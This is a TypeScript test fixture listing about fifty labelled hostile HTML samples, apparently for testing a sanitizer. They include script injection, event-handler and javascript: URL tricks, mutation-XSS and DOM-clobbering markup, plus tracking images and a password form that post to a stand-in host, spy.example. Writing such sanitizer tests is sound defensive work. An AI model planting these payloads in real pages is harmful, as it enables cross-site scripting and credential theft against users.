/**
 * Pages that try to get more than words into the reader: [what it tries, HTML]. `run()` is what
 * must not run, `https://spy.example/` what must not be asked for.
 */
export const hostile: readonly (readonly [string, string])[] = [
  ["a script", "<p>A</p><script>run()</script>"],
  ["a script of another namespace", "<svg><script>run()</script></svg>"],
  ["a script inside a formula", "<math><mtext><script>run()</script></mtext></math>"],
  ["an image that fails", '<img src="x" onerror="run()">'],
  ["an image of script", '<img src="javascript:run()">'],
  ["an image of data", '<img src="data:image/svg+xml,<svg onload=run()>">'],
  ["an image that counts readers", '<img src="https://spy.example/1.gif" width="1" height="1">'],
  ["many images for one", '<img srcset="https://spy.example/a 1x, https://spy.example/b 2x">'],
  ["an image to come from elsewhere", '<img data-src="https://spy.example/late.jpg">'],
  ["a set to come from elsewhere", '<img data-srcset="https://spy.example/late.jpg 800w">'],
  ["a source of a picture", '<picture><source srcset="https://spy.example/a"><img></picture>'],
  ["handlers on words", '<p onclick="run()" onpointerenter="run()" onfocus="run()">A</p>'],
  ["a handler at the end of a movement", '<p style="transition:1s" ontransitionend="run()">A</p>'],
  ["a handler in an unknown name", '<p ONCLICK="run()" on\u0131d="run()">A</p>'],
  ["a link of script", '<a href="javascript:run()">A</a>'],
  ["a link of script in disguise", '<a href=" &#1; java&#10;script&colon;run()">A</a>'],
  ["a link of old script", '<a href="vbscript:run()">A</a>'],
  ["a link to a blob", '<a href="blob:https://paper.example/1">A</a>'],
  ["a link to the view of a source", '<a href="view-source:https://paper.example/">A</a>'],
  ["a link to the extension", '<a href="chrome-extension://abc/popup.html">A</a>'],
  ["a link that reports", '<a href="/a" ping="https://spy.example/ping">A</a>'],
  ["a link that downloads", '<a href="/a.exe" download="report.pdf">A</a>'],
  ["a link with a host's name before the host", '<a href="https://bank.example:x@b.example">A</a>'],
  ["a base of its own", '<base href="https://spy.example/"><a href="a">A</a>'],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=https://spy.example/">'],
  ["styles", '<style>@import "https://spy.example/a.css";</style><p>A</p>'],
  ["style on words", '<p style="background:url(https://spy.example/bg)">A</p>'],
  ["a table with a ground", '<table background="https://spy.example/bg"><tr><td>A<td>B</table>'],
  ["classes of the page", '<p class="fixed-overlay" id="root" slot="x" part="y">A</p>'],
  ["a frame", '<iframe src="https://spy.example/" srcdoc="<script>run()</script>"></iframe>'],
  [
    "an object",
    '<object data="https://spy.example/"><p>A</p></object><embed src="javascript:run()">',
  ],
  ["sound and film", '<video poster="https://spy.example/p"><source onerror="run()"></video>'],
  ["a form for a password", '<form action="https://spy.example/"><input type="password">A</form>'],
  [
    "a control that takes focus",
    '<button autofocus onfocus="run()">A</button><p tabindex="1">B</p>',
  ],
  [
    "a popover",
    '<p popover id="p" onbeforetoggle="run()">A</p><button popovertarget="p">B</button>',
  ],
  [
    "a shadow root",
    '<div><template shadowrootmode="open"><script>run()</script></template>A</div>',
  ],
  ["an element of the page's own", '<x-run is="x-run" onload="run()"><p>A</p></x-run>'],
  [
    "a fall back without script",
    "<noscript><p title='</noscript><img src=x onerror=run()>'></noscript>",
  ],
  ["text that would be markup", "<p>&lt;img src=x onerror=run()&gt;</p>"],
  ["a comment that would be markup", "<p>A<!--><img src=x onerror=run()>--></p>"],
  [
    "markup that changes when it is read again",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>",
  ],
  [
    "a title that holds markup",
    "<svg></p><style><a title='</style><img src onerror=run()>'></svg>",
  ],
  ["raw text", "<xmp><img src=x onerror=run()></xmp><plaintext><script>run()</script>"],
  ["a drawing", '<svg onload="run()"><image href="https://spy.example/i"/><use href="#x"/></svg>'],
  [
    "words of another drawing space",
    "<svg><foreignObject><p onclick=run()>A</p></foreignObject></svg>",
  ],
  ["names that shadow the document", '<p><img name="createElementNS"><a id="body">A</a></p>'],
  [
    "names that shadow a form",
    '<form id="f"><input name="attributes"><input name="nodeType">A</form>',
  ],
  [
    "names of every object",
    '<p id="__proto__">A</p><a href="#__proto__">B</a><a name="constructor">C</a>',
  ],
  ["a language of markup", `<p lang='"><img src=x onerror=run()>' dir='"onclick=run()'>A</p>`],
  [
    "rows without end",
    '<table><tr><td rowspan="65534" colspan="99999">A</td><td>B</td></tr></table>',
  ],
];
